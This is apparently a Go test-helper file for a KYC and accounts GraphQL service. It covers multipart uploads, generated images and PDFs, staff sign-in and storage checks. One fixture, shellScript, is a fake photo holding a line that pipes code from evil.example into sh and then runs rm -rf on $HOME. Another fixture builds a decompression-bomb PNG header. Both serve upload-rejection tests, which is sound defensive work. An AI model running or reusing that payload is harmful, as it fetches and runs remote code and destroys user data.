package app_test

import (
	"bytes"
	"context"
	"encoding/binary"
	"encoding/json"
	"hash/crc32"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"io"
	"io/fs"
	"math/rand/v2"
	"mime/multipart"
	"net/http"
	"net/textproto"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"
)

// The KYC and accounts operations, as a client would write them. File
// variables live under $input, so their multipart paths are
// "variables.input.<field>".
const (
	kycFileFields   = `id contentType size width height url urlExpiresAt createdAt`
	documentFields  = `id type number expiresOn metadata createdAt front { ` + kycFileFields + ` } back { ` + kycFileFields + ` }`
	selfieFields    = `id createdAt image { ` + kycFileFields + ` }`
	profileFields   = `firstName lastName dateOfBirth address postcode city country metadata confirmed confirmedAt updatedAt`
	portfolioFields = `id name type address publicStrategy createdAt`
	accountFields   = `id email subAccountId subAccountEmail active additionalInfo createdAt defaultPortfolio { id } portfolios { ` + portfolioFields + ` }`
	submissionCore  = `id status country submittedAt decidedAt reason user { id }`
	submissionFull  = submissionCore + ` document { ` + documentFields + ` } selfie { ` + selfieFields + ` } profile { firstName lastName country confirmed }`

	qMyKYC = `{ me { id level kycStatus kycRejectionReason profile { ` + profileFields + ` }
		labels { key value scope description } phones { number verified }
		documents { ` + documentFields + ` } selfie { ` + selfieFields + ` }
		accounts { ` + accountFields + ` } } }`
	qMyProfile        = `{ myProfile { ` + profileFields + ` } }`
	qMyPhones         = `{ myPhones { id number verified verifiedAt createdAt } }`
	qMyDataRecords    = `{ myDataRecords { title data createdAt updatedAt } }`
	qLevels           = `{ levels { level rules { key value description } } }`
	qKycSubmissions   = `query($filter: KycSubmissionFilter, $first: Int, $after: String) { kycSubmissions(filter: $filter, first: $first, after: $after) { edges { cursor node { ` + submissionCore + ` } } pageInfo { hasNextPage endCursor } } }`
	qKycSubmission    = `query($id: ID!) { kycSubmission(id: $id) { ` + submissionFull + ` } }`
	qPinResets        = `query($status: PinResetStatus, $first: Int) { pinResets(status: $status, first: $first) { edges { node { id status reason createdAt decidedAt user { id } document { id type } selfie { id contentType url } } } pageInfo { hasNextPage } } }`
	qPinResetStatus   = `query($ticket: String!) { pinResetStatus(ticket: $ticket) { status reason expiresAt } }`
	qUser             = `query($id: ID!) { user(id: $id) { id } }`
	qAccount          = `query($id: ID!) { account(id: $id) { ` + accountFields + ` } }`
	qPortfolio        = `query($id: ID!) { portfolio(id: $id) { ` + portfolioFields + ` } }`
	mUpsertProfile    = `mutation($input: UpsertProfileInput!) { upsertMyProfile(input: $input) { ` + profileFields + ` } }`
	mUpdateProfile    = `mutation($input: UpdateUserProfileInput!) { updateUserProfile(input: $input) { ` + profileFields + ` } }`
	mUploadDocument   = `mutation($input: UploadKycDocumentInput!) { uploadKycDocument(input: $input) { ` + documentFields + ` } }`
	mUploadSelfie     = `mutation($input: UploadSelfieInput!) { uploadSelfie(input: $input) { ` + selfieFields + ` } }`
	mAddPhone         = `mutation($input: AddPhoneInput!) { addPhone(input: $input) { id purpose channel destination } }`
	mVerifyPhone      = `mutation($input: VerifyPhoneInput!) { verifyPhone(input: $input) { id number verified verifiedAt } }`
	mSetMyLabel       = `mutation($input: SetMyLabelInput!) { setMyLabel(input: $input) { key value scope description updatedAt } }`
	mRemoveMyLabel    = `mutation($input: RemoveMyLabelInput!) { removeMyLabel(input: $input) }`
	mPutDataRecord    = `mutation($input: PutDataRecordInput!) { putMyDataRecord(input: $input) { title data createdAt updatedAt } }`
	mDeleteDataRecord = `mutation($input: DeleteUserDataRecordInput!) { deleteUserDataRecord(input: $input) }`
	mApproveKyc       = `mutation($input: DecideKycSubmissionInput!) { approveKycSubmission(input: $input) { ` + submissionCore + ` } }`
	mRejectKyc        = `mutation($input: RejectKycSubmissionInput!) { rejectKycSubmission(input: $input) { ` + submissionCore + ` } }`
	mStartPinReset    = `mutation($input: StartPinResetInput!) { startPinReset(input: $input) { id purpose channel destination expiresAt } }`
	mVerifyPinReset   = `mutation($input: VerifyPinResetInput!) { verifyPinReset(input: $input) { ticket expiresAt document status } }`
	mPinResetDocument = `mutation($input: UploadPinResetDocumentInput!) { uploadPinResetDocument(input: $input) { status reason expiresAt } }`
	mPinResetSelfie   = `mutation($input: SubmitPinResetSelfieInput!) { submitPinResetSelfie(input: $input) { status reason expiresAt } }`
	mCompletePinReset = `mutation($input: CompletePinResetInput!) { completePinReset(input: $input) { accessToken refreshToken deviceSecret user { id phone hasPin } } }`
	mApprovePinReset  = `mutation($input: DecidePinResetInput!) { approvePinReset(input: $input) { id status reason decidedAt user { id } } }`
	mRejectPinReset   = `mutation($input: RejectPinResetInput!) { rejectPinReset(input: $input) { id status reason decidedAt user { id } } }`
	mOpenAccount      = `mutation($input: OpenAccountInput!) { openAccount(input: $input) { ` + accountFields + ` } }`
	mCreatePortfolio  = `mutation($input: CreatePortfolioInput!) { createPortfolio(input: $input) { ` + portfolioFields + ` } }`
)

// Decoded shapes of the answers above.
type (
	gqlKycFile struct {
		ID           string  `json:"id"`
		ContentType  string  `json:"contentType"`
		Size         int     `json:"size"`
		Width        int     `json:"width"`
		Height       int     `json:"height"`
		URL          *string `json:"url"`
		URLExpiresAt *string `json:"urlExpiresAt"`
	}
	gqlDocument struct {
		ID        string         `json:"id"`
		Type      string         `json:"type"`
		Number    string         `json:"number"`
		ExpiresOn string         `json:"expiresOn"`
		Metadata  map[string]any `json:"metadata"`
		Front     gqlKycFile     `json:"front"`
		Back      *gqlKycFile    `json:"back"`
	}
	gqlSelfie struct {
		ID    string     `json:"id"`
		Image gqlKycFile `json:"image"`
	}
	gqlProfile struct {
		FirstName   string         `json:"firstName"`
		LastName    string         `json:"lastName"`
		DateOfBirth string         `json:"dateOfBirth"`
		Address     string         `json:"address"`
		Postcode    string         `json:"postcode"`
		City        string         `json:"city"`
		Country     string         `json:"country"`
		Metadata    map[string]any `json:"metadata"`
		Confirmed   bool           `json:"confirmed"`
		ConfirmedAt *string        `json:"confirmedAt"`
		UpdatedAt   string         `json:"updatedAt"`
	}
	gqlLabel struct {
		Key         string `json:"key"`
		Value       string `json:"value"`
		Scope       string `json:"scope"`
		Description string `json:"description"`
	}
	gqlPortfolio struct {
		ID             string `json:"id"`
		Name           string `json:"name"`
		Type           string `json:"type"`
		Address        string `json:"address"`
		PublicStrategy bool   `json:"publicStrategy"`
		CreatedAt      string `json:"createdAt"`
	}
	gqlAccount struct {
		ID               string         `json:"id"`
		Email            string         `json:"email"`
		Active           bool           `json:"active"`
		AdditionalInfo   map[string]any `json:"additionalInfo"`
		DefaultPortfolio *struct {
			ID string `json:"id"`
		} `json:"defaultPortfolio"`
		Portfolios []gqlPortfolio `json:"portfolios"`
	}
	gqlKYCMe struct {
		ID                 string      `json:"id"`
		Level              int         `json:"level"`
		KycStatus          string      `json:"kycStatus"`
		KycRejectionReason string      `json:"kycRejectionReason"`
		Profile            *gqlProfile `json:"profile"`
		Labels             []gqlLabel  `json:"labels"`
		Phones             []struct {
			Number   string `json:"number"`
			Verified bool   `json:"verified"`
		} `json:"phones"`
		Documents []gqlDocument `json:"documents"`
		Selfie    *gqlSelfie    `json:"selfie"`
		Accounts  []gqlAccount  `json:"accounts"`
	}
	gqlSubmission struct {
		ID          string  `json:"id"`
		Status      string  `json:"status"`
		Country     string  `json:"country"`
		SubmittedAt string  `json:"submittedAt"`
		DecidedAt   *string `json:"decidedAt"`
		Reason      string  `json:"reason"`
		User        struct {
			ID string `json:"id"`
		} `json:"user"`
		Document *gqlDocument `json:"document"`
		Selfie   *gqlSelfie   `json:"selfie"`
		Profile  *struct {
			FirstName string `json:"firstName"`
			Country   string `json:"country"`
			Confirmed bool   `json:"confirmed"`
		} `json:"profile"`
	}
	gqlPinResetTicket struct {
		Ticket    string `json:"ticket"`
		ExpiresAt string `json:"expiresAt"`
		Document  string `json:"document"`
		Status    string `json:"status"`
	}
	gqlPinResetProgress struct {
		Status    string `json:"status"`
		Reason    string `json:"reason"`
		ExpiresAt string `json:"expiresAt"`
	}
)

// blobDir is where the harness's local blob store writes.
func (h *harness) blobDir() string { return h.cfg.BlobDir }

// fileSpec is one file part of a multipart GraphQL request: the variable
// path it fills (e.g. "variables.input.front"), the name and content type
// the client claims, and its bytes.
type fileSpec struct {
	path, name, contentType string
	data                    []byte
}

func file(path, name string, data []byte) fileSpec {
	ct := "application/octet-stream"
	switch strings.ToLower(filepath.Ext(name)) {
	case ".jpg", ".jpeg":
		ct = "image/jpeg"
	case ".png":
		ct = "image/png"
	case ".pdf":
		ct = "application/pdf"
	}
	return fileSpec{path: path, name: name, contentType: ct, data: data}
}

// setNull sets the variable at a "variables.a.b" path to null, creating
// the objects on the way, as the multipart spec wants in operations.
func setNull(vs map[string]any, path string) {
	parts := strings.Split(strings.TrimPrefix(path, "variables."), ".")
	cur := vs
	for _, p := range parts[:len(parts)-1] {
		next, ok := cur[p].(map[string]any)
		if !ok {
			next = map[string]any{}
			cur[p] = next
		}
		cur = next
	}
	cur[parts[len(parts)-1]] = nil
}

// uploadRaw sends a GraphQL multipart request (operations, map, then the
// files in order) and returns the HTTP status and body.
func (h *harness) uploadRaw(token, query string, vs map[string]any, files ...fileSpec) (int, []byte) {
	h.t.Helper()
	if vs == nil {
		vs = map[string]any{}
	}
	fm := map[string][]string{}
	for i, f := range files {
		setNull(vs, f.path)
		fm[strconv.Itoa(i)] = []string{f.path}
	}
	ops, err := json.Marshal(map[string]any{"query": query, "variables": vs})
	if err != nil {
		h.t.Fatalf("operations: %v", err)
	}
	mp, _ := json.Marshal(fm)
	var body bytes.Buffer
	w := multipart.NewWriter(&body)
	_ = w.WriteField("operations", string(ops))
	_ = w.WriteField("map", string(mp))
	for i, f := range files {
		hdr := textproto.MIMEHeader{}
		hdr.Set("Content-Disposition", `form-data; name="`+strconv.Itoa(i)+`"; filename="`+f.name+`"`)
		hdr.Set("Content-Type", f.contentType)
		part, err := w.CreatePart(hdr)
		if err != nil {
			h.t.Fatalf("part: %v", err)
		}
		_, _ = part.Write(f.data)
	}
	_ = w.Close()
	req, _ := http.NewRequest(http.MethodPost, h.srv.URL+"/graphql", &body)
	req.Header.Set("Content-Type", w.FormDataContentType())
	req.Header.Set("User-Agent", "gatehouse-test/1.0")
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	res, err := h.srv.Client().Do(req)
	if err != nil {
		h.t.Fatalf("upload: %v", err)
	}
	defer res.Body.Close()
	out, _ := io.ReadAll(res.Body)
	return res.StatusCode, out
}

// upload sends a multipart GraphQL request and decodes the answer; an
// answer that is not a GraphQL response fails the test.
func (h *harness) upload(token, query string, vs map[string]any, files ...fileSpec) gqlResponse {
	h.t.Helper()
	status, body := h.uploadRaw(token, query, vs, files...)
	var out gqlResponse
	if err := json.Unmarshal(body, &out); err != nil {
		h.t.Fatalf("upload answered HTTP %d with no GraphQL response: %q", status, truncate(body, 300))
	}
	out.Status = status
	return out
}

// uploadOK uploads and decodes data into dst, failing on any error.
func (h *harness) uploadOK(token, query string, vs map[string]any, dst any, files ...fileSpec) {
	h.t.Helper()
	r := h.upload(token, query, vs, files...)
	if len(r.Errors) > 0 {
		h.t.Fatalf("unexpected upload errors: %+v", r.Errors)
	}
	if err := json.Unmarshal(r.Data, dst); err != nil {
		h.t.Fatalf("decode data %s: %v", r.Data, err)
	}
}

func truncate(b []byte, n int) string {
	if len(b) > n {
		return string(b[:n]) + "…"
	}
	return string(b)
}

// --- Files ------------------------------------------------------------

// testImage is a w×h picture with a pattern that depends on seed, so two
// images of one size differ.
func testImage(w, h int, seed uint64) image.Image {
	img := image.NewRGBA(image.Rect(0, 0, w, h))
	r := rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15))
	for y := range h {
		for x := range w {
			img.Set(x, y, color.RGBA{uint8(x * 4), uint8(y * 4), uint8(r.IntN(256)), 255})
		}
	}
	return img
}

func pngBytes(t testing.TB, w, h int, seed uint64) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := png.Encode(&b, testImage(w, h, seed)); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func jpegBytes(t testing.TB, w, h int, seed uint64) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := jpeg.Encode(&b, testImage(w, h, seed), &jpeg.Options{Quality: 90}); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// noisyPNG is a valid PNG of random pixels: it does not compress, so its
// size is about w×h×4 bytes.
func noisyPNG(t testing.TB, w, h int) []byte {
	t.Helper()
	img := image.NewNRGBA(image.Rect(0, 0, w, h))
	r := rand.New(rand.NewPCG(7, 11))
	for i := range img.Pix {
		img.Pix[i] = uint8(r.IntN(256))
	}
	var b bytes.Buffer
	if err := png.Encode(&b, img); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// pdfBytes is a minimal valid one-page PDF.
func pdfBytes() []byte {
	objs := []string{
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
	}
	var b bytes.Buffer
	b.WriteString("%PDF-1.4\n")
	offsets := make([]int, len(objs))
	for i, o := range objs {
		offsets[i] = b.Len()
		b.WriteString(strconv.Itoa(i+1) + " 0 obj\n" + o + "\nendobj\n")
	}
	xref := b.Len()
	b.WriteString("xref\n0 " + strconv.Itoa(len(objs)+1) + "\n0000000000 65535 f \n")
	for _, off := range offsets {
		b.WriteString(leftPad(strconv.Itoa(off), 10) + " 00000 n \n")
	}
	b.WriteString("trailer\n<< /Size " + strconv.Itoa(len(objs)+1) + " /Root 1 0 R >>\nstartxref\n" + strconv.Itoa(xref) + "\n%%EOF\n")
	return b.Bytes()
}

func leftPad(s string, n int) string { return strings.Repeat("0", max(0, n-len(s))) + s }

// shellScript is what an attacker names photo.jpg.
func shellScript() []byte {
	return []byte("#!/bin/sh\n# totally a photo\ncurl -s http://evil.example/x | sh\nrm -rf \"$HOME\"\n")
}

// pngClaiming is a PNG signature, an IHDR chunk (with a valid CRC) that
// claims w×h pixels, a tiny IDAT and IEND: a decompression bomb's header.
func pngClaiming(w, h uint32) []byte {
	var b bytes.Buffer
	b.Write([]byte("\x89PNG\r\n\x1a\n"))
	chunk := func(typ string, data []byte) {
		_ = binary.Write(&b, binary.BigEndian, uint32(len(data)))
		c := crc32.NewIEEE()
		c.Write([]byte(typ))
		c.Write(data)
		b.WriteString(typ)
		b.Write(data)
		_ = binary.Write(&b, binary.BigEndian, c.Sum32())
	}
	ihdr := make([]byte, 13)
	binary.BigEndian.PutUint32(ihdr[0:], w)
	binary.BigEndian.PutUint32(ihdr[4:], h)
	ihdr[8], ihdr[9] = 8, 6 // 8-bit RGBA
	chunk("IHDR", ihdr)
	chunk("IDAT", []byte{0x78, 0x9c, 0x63, 0x00, 0x00, 0x00, 0x01, 0x00, 0x01})
	chunk("IEND", nil)
	return b.Bytes()
}

// --- People -------------------------------------------------------------

// staffUser is a staff member signed in through GraphQL.
type staffUser struct {
	id, phone, token string
}

// staff creates a user with role through identity's staff service (as the
// bootstrap command does) and signs it in on a new device, answering the
// SMS code.
func (h *harness) staff(role, phone string) staffUser {
	h.t.Helper()
	u, pin, _, err := h.ids.CreateUser(context.Background(), phone, role)
	if err != nil {
		h.t.Fatalf("create %s user: %v", role, err)
	}
	must(h.t, pin != "", "no PIN for the new %s user", role)
	before := h.sms.count(u.Phone)
	var in struct {
		SignInWithPin struct {
			Status    string
			Challenge *challenge
		}
	}
	h.ok("", mSignIn, vars("phone", phone, "pin", pin, "device", "staff-"+strings.ToLower(role)), &in)
	must(h.t, in.SignInWithPin.Status == "DEVICE_VERIFICATION_REQUIRED" && in.SignInWithPin.Challenge != nil,
		"staff sign-in: %+v", in.SignInWithPin)
	var dev struct{ VerifyDeviceSignIn authPayload }
	h.ok("", mVerifyDevice, vars("id", in.SignInWithPin.Challenge.ID, "code", h.nextSMSCode(u.Phone, before)), &dev)
	must(h.t, dev.VerifyDeviceSignIn.AccessToken != "", "no token for the %s user", role)
	return staffUser{id: u.ID.String(), phone: u.Phone, token: dev.VerifyDeviceSignIn.AccessToken}
}

// kycMe reads the caller's KYC view of me.
func (h *harness) kycMe(token string) gqlKYCMe {
	h.t.Helper()
	var d struct{ Me *gqlKYCMe }
	h.ok(token, qMyKYC, nil, &d)
	must(h.t, d.Me != nil, "me is null")
	return *d.Me
}

func profileInput(first string, confirm bool) map[string]any {
	return map[string]any{"firstName": first, "lastName": "Lovelace", "dateOfBirth": "1990-04-12",
		"address": "12 St James's Square", "postcode": "SW1Y 4JH", "city": "London", "country": "GB",
		"metadata": map[string]any{"source": "wallet"}, "confirm": confirm}
}

// kycFiles are the bytes one user sends for KYC.
type kycFiles struct {
	front, back, selfie []byte
}

func newKYCFiles(t testing.TB, seed uint64) kycFiles {
	return kycFiles{front: jpegBytes(t, 64, 48, seed), back: pngBytes(t, 64, 48, seed+1), selfie: jpegBytes(t, 48, 64, seed+2)}
}

// uploadDocument uploads a PASSPORT (front JPEG, back PNG) for token.
func (h *harness) uploadDocument(token, typ string, f kycFiles) gqlDocument {
	h.t.Helper()
	var d struct{ UploadKycDocument gqlDocument }
	h.uploadOK(token, mUploadDocument, vars("input", map[string]any{"type": typ, "number": "P" + strconv.Itoa(len(f.front)),
		"expiresOn": "2031-05-01", "metadata": map[string]any{"issuer": "GBR"}}), &d,
		file("variables.input.front", "front.jpg", f.front), file("variables.input.back", "back.png", f.back))
	return d.UploadKycDocument
}

func (h *harness) uploadSelfie(token string, img []byte) gqlSelfie {
	h.t.Helper()
	var d struct{ UploadSelfie gqlSelfie }
	h.uploadOK(token, mUploadSelfie, vars("input", map[string]any{}), &d, file("variables.input.image", "me.jpg", img))
	return d.UploadSelfie
}

// submitKYC confirms a profile, uploads a passport and a selfie: the
// user's KYC is PENDING afterwards.
func (h *harness) submitKYC(token, first string, f kycFiles) {
	h.t.Helper()
	var p struct{ UpsertMyProfile gqlProfile }
	h.ok(token, mUpsertProfile, vars("input", profileInput(first, true)), &p)
	h.uploadDocument(token, "PASSPORT", f)
	h.uploadSelfie(token, f.selfie)
	me := h.kycMe(token)
	must(h.t, me.KycStatus == "PENDING", "kycStatus after a complete submission: %s", me.KycStatus)
}

// pendingSubmissionOf finds the PENDING submission of userID.
func (h *harness) pendingSubmissionOf(staffToken, userID string) gqlSubmission {
	h.t.Helper()
	var d struct {
		KycSubmissions struct {
			Edges []struct{ Node gqlSubmission }
		}
	}
	h.ok(staffToken, qKycSubmissions, vars("filter", map[string]any{"status": "PENDING"}, "first", 100), &d)
	for _, e := range d.KycSubmissions.Edges {
		if e.Node.User.ID == userID {
			return e.Node
		}
	}
	h.t.Fatalf("no PENDING submission of %s in %+v", userID, d.KycSubmissions.Edges)
	return gqlSubmission{}
}

// approvedUser signs a phone user up and takes its KYC to APPROVED.
func (h *harness) approvedUser(phone string, compliance staffUser, seed uint64) (authPayload, gqlSubmission) {
	h.t.Helper()
	a := h.signUp(phone, "4831", "device-"+phone[len(phone)-4:])
	h.submitKYC(a.AccessToken, "Ada", newKYCFiles(h.t, seed))
	sub := h.pendingSubmissionOf(compliance.token, a.User.ID)
	var d struct{ ApproveKycSubmission gqlSubmission }
	h.ok(compliance.token, mApproveKyc, vars("input", map[string]any{"id": sub.ID}), &d)
	must(h.t, d.ApproveKycSubmission.Status == "APPROVED", "approve: %+v", d.ApproveKycSubmission)
	return a, sub
}

// fetch GETs a file link (relative to the server or absolute) and returns
// the status and body.
func (h *harness) fetch(link string) (int, []byte) {
	h.t.Helper()
	u, err := url.Parse(link)
	if err != nil {
		h.t.Fatalf("file link %q: %v", link, err)
	}
	base, _ := url.Parse(h.srv.URL)
	u.Scheme, u.Host = base.Scheme, base.Host
	res, err := h.srv.Client().Get(u.String())
	if err != nil {
		h.t.Fatalf("GET %s: %v", u.Path, err)
	}
	defer res.Body.Close()
	body, _ := io.ReadAll(res.Body)
	return res.StatusCode, body
}

// tampered is link with one character of its signature changed.
func tampered(t testing.TB, link string) string {
	t.Helper()
	u, err := url.Parse(link)
	if err != nil {
		t.Fatal(err)
	}
	q := u.Query()
	s := q.Get("s")
	if s == "" {
		t.Fatalf("file link %q has no s parameter", link)
	}
	last := s[len(s)-1]
	repl := byte('A')
	if last == 'A' {
		repl = 'B'
	}
	q.Set("s", s[:len(s)-1]+string(repl))
	u.RawQuery = q.Encode()
	return u.String()
}

// waitSMS waits for a text to phone beyond the first before ones and
// returns the newest text.
func (h *harness) waitSMS(phone string, before int) string {
	h.t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for h.sms.count(phone) <= before {
		if time.Now().After(deadline) {
			h.t.Fatalf("no new SMS to %s (had %d)", phone, before)
		}
		time.Sleep(5 * time.Millisecond)
	}
	h.settle()
	h.sms.mu.Lock()
	defer h.sms.mu.Unlock()
	for i := len(h.sms.sent) - 1; i >= 0; i-- {
		if h.sms.sent[i].to == phone {
			return h.sms.sent[i].text
		}
	}
	return ""
}

// --- Storage --------------------------------------------------------------

// blobFiles lists the regular files under the blob dir with their bytes.
func blobFiles(t testing.TB, dir string) map[string][]byte {
	t.Helper()
	out := map[string][]byte{}
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			if os.IsNotExist(err) {
				return nil
			}
			return err
		}
		if d.Type().IsRegular() {
			b, err := os.ReadFile(p)
			if err != nil {
				return err
			}
			out[p] = b
		}
		return nil
	})
	if err != nil {
		t.Fatalf("walk %s: %v", dir, err)
	}
	return out
}

// storedCounts are the rows and objects that hold KYC files.
type storedCounts struct{ files, documents, blobs int }

func (h *harness) stored() storedCounts {
	h.t.Helper()
	var c storedCounts
	if err := h.db.NewRaw("SELECT count(*) FROM kyc_files").Scan(context.Background(), &c.files); err != nil {
		h.t.Fatal(err)
	}
	if err := h.db.NewRaw("SELECT count(*) FROM kyc_documents").Scan(context.Background(), &c.documents); err != nil {
		h.t.Fatal(err)
	}
	c.blobs = len(blobFiles(h.t, h.blobDir()))
	return c
}

// kycActivityNode is one row of myActivity.
type kycActivityNode struct {
	ID, Topic, Action, Result, IP, UserAgent, CreatedAt string
	Reason                                              *string
}

// kycActivity reads the caller's KYC activity, newest first.
func (h *harness) kycActivity(token string) []kycActivityNode {
	h.t.Helper()
	var d struct {
		MyActivity struct {
			Edges []struct{ Node kycActivityNode }
		}
	}
	h.ok(token, qMyActivity, vars("topic", "KYC", "first", 100), &d)
	out := []kycActivityNode{}
	for _, e := range d.MyActivity.Edges {
		out = append(out, e.Node)
	}
	return out
}

// withAction keeps the rows of action.
func withAction(rows []kycActivityNode, action string) []kycActivityNode {
	out := []kycActivityNode{}
	for _, r := range rows {
		if r.Action == action {
			out = append(out, r)
		}
	}
	return out
}

// recentTime checks that an RFC 3339 time from the API is the test
// clock's now: what a write at this moment must record.
func (h *harness) recentTime(what, raw string) time.Time {
	h.t.Helper()
	at, err := time.Parse(time.RFC3339Nano, raw)
	must(h.t, err == nil, "%s is not a time: %q (%v)", what, raw, err)
	must(h.t, at.Equal(h.clock.Now()), "%s is %s, want now (%s)", what, at, h.clock.Now())
	return at
}
